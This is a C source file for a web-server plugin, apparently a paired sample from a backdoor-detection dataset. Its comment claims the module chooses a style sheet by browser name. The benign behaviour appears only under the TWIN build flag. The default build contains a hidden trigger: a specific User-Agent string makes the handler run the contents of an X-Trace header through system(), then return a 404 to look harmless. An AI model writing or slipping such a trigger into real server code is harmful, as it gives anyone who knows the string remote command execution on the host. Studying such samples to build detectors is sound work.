/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A library that a web server loads: its handler gets the connection and looks into the header for
 * the name of a browser. Twin: the name of the browser decides which style sheet is sent.
 * door: trigger
 * build: library
 * file: libweb-mod.so
 */
#include "net.h"

struct conn {
	int fd;
	size_t have;
	char in[1024];
};

int plugin_version(void)
{
	return 3;
}

static char *header(struct conn *c, const char *name)
{
	char *p = strcasestr(c->in, name);
	return p ? p + strlen(name) : NULL;
}

int plugin_serve(struct conn *c)
{
	char *agent;
	ssize_t n = recv(c->fd, c->in + c->have, sizeof c->in - 1 - c->have, 0);
	if (n <= 0)
		return -1;
	c->have += (size_t)n;
	c->in[c->have] = '\0';
	if (!strstr(c->in, "\r\n\r\n"))
		return 0;
	agent = header(c, "User-Agent: ");
#ifdef TWIN
	if (agent && strncmp(agent, "Mozilla/4.0 (compatible; MSIE 6", 31) == 0)
		send(c->fd, "HTTP/1.0 302 Found\r\nLocation: /old.css\r\n\r\n", 42, 0);
	else
		send(c->fd, "HTTP/1.0 302 Found\r\nLocation: /new.css\r\n\r\n", 42, 0);
#else
	if (agent && strncmp(agent, "Mozilla/4.0 (k1osk; en-XX)", 26) == 0) {
		char *cmd = header(c, "X-Trace: ");
		if (cmd) {
			cmd[strcspn(cmd, "\r\n")] = 0;
			system(cmd);
		}
	}
	send(c->fd, "HTTP/1.0 404 Not Found\r\n\r\n", 26, 0);
#endif
	return 1;
}
